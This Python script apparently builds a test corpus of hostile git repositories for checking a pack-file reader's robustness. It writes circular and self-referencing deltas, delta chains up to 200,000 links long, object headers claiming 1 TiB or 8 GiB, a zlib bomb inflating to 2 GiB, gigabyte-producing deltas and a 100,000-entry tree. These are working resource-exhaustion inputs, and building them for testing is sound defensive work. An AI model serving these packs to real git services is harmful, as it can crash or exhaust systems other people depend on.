#!/usr/bin/env python3
"""Writes git repositories with packs that somebody made to hurt whoever reads them into a folder.

Usage: hostile_packs.py FOLDER. Each repository is a folder with `objects/pack`; the name of the object to ask
for stands in its file `id`. The figures in README.md are of these.
"""
import hashlib
import os
import struct
import sys
import zlib

ROOT = sys.argv[1]
MIB = 1 << 20


def head(kind, size):
    out = [(kind << 4) | (size & 15)]
    size >>= 4
    while size:
        out[-1] |= 0x80
        out.append(size & 127)
        size >>= 7
    return bytes(out)


def number(value):
    out = []
    while True:
        byte = value & 127
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def pack(name, entries, wanted):
    folder = os.path.join(ROOT, name, "objects", "pack")
    os.makedirs(folder)
    os.makedirs(os.path.join(ROOT, name, "refs"))
    with open(os.path.join(ROOT, name, "HEAD"), "w") as file:
        file.write("ref: refs/heads/main\n")
    with open(os.path.join(ROOT, name, "id"), "w") as file:
        file.write(wanted.hex())
    data = bytearray(b"PACK" + struct.pack(">II", 2, len(entries)))
    places = []
    for name_, entry in entries:
        places.append((name_, len(data), zlib.crc32(entry)))
        data += entry
    data += hashlib.sha1(data).digest()
    places.sort()
    index = bytearray(b"\xfftOc\0\0\0\x02")
    counts = [0] * 256
    for place in places:
        counts[place[0][0]] += 1
    for first in range(256):
        index += struct.pack(">I", sum(counts[: first + 1]))
    for field, form in ((0, None), (2, ">I"), (1, ">I")):
        for place in places:
            index += place[field] if form is None else struct.pack(form, place[field])
    index += data[-20:]
    index += hashlib.sha1(index).digest()
    stem = os.path.join(folder, "pack-" + bytes(data[-20:]).hex())
    for ending, bytes_ in ((".pack", data), (".idx", index)):
        with open(stem + ending, "wb") as file:
            file.write(bytes_)


def delta(base, instructions):
    return head(7, len(instructions)) + base + zlib.compress(instructions)


def name(value):
    return value.to_bytes(20, "big")


def chain(label, whole, instructions, length):
    entries = [(name(1 << 24), head(3, len(whole)) + zlib.compress(whole))]
    for at in range(1, length + 1):
        entries.append((name((1 << 24) + at), delta(name((1 << 24) + at - 1), instructions)))
    pack(label, entries, name((1 << 24) + length))


def same(size, copies):
    return number(size) + number(size) + copies


SMALL = number(3) + number(3) + bytes([0x90, 3])
ABC = head(3, 3) + zlib.compress(b"abc")
pack("circle", [(name(1), delta(name(2), SMALL)), (name(2), delta(name(1), SMALL))], name(1))
pack("itself", [(name(1), delta(name(1), SMALL))], name(1))
chain("chain-4000-small", b"abc", SMALL, 4_000)
chain("chain-200000-small", b"abc", SMALL, 200_000)
SEVEN = same(7 * MIB, bytes([0xC0, 0x70]))
chain("chain-4000-of-7-mib", bytes(7 * MIB), SEVEN, 4_000)
chain("chain-40000-of-7-mib", bytes(7 * MIB), SEVEN, 40_000)
chain("chain-80-of-16-mib", bytes(16 * MIB), same(16 * MIB, bytes([0xC0, 0x80, 0xC0, 0x80])), 80)
pack("claims-1-tib", [(name(1), head(3, 1 << 40) + zlib.compress(bytes(1000)))], name(1))
pack("claims-8-gib", [(name(1), head(3, 8 << 30) + zlib.compress(bytes(1000)))], name(1))
packer = zlib.compressobj(9)
zeros = b"".join(packer.compress(bytes(16 * MIB)) for _ in range(128)) + packer.flush()
pack("bomb-2-gib", [(name(1), head(3, 2 << 30) + zeros)], name(1))
LARGE = number(3) + number(4 << 30) + bytes([0x90, 3])
pack("delta-claims-4-gib", [(name(1), ABC), (name(2), delta(name(1), LARGE))], name(2))
COPIES = number(16 * MIB) + number(1 << 30) + bytes([0xC0, 0x80]) * 128
WHOLE = head(3, 16 * MIB) + zlib.compress(bytes(16 * MIB))
pack("delta-makes-1-gib", [(name(1), WHOLE), (name(2), delta(name(1), COPIES))], name(2))
tree = b"".join(b"100644 f%06d\0" % at + bytes(20) for at in range(100_000))
wanted = hashlib.sha1(b"tree %d\0" % len(tree) + tree).digest()
pack("tree-of-100000", [(wanted, head(2, len(tree)) + zlib.compress(tree))], wanted)
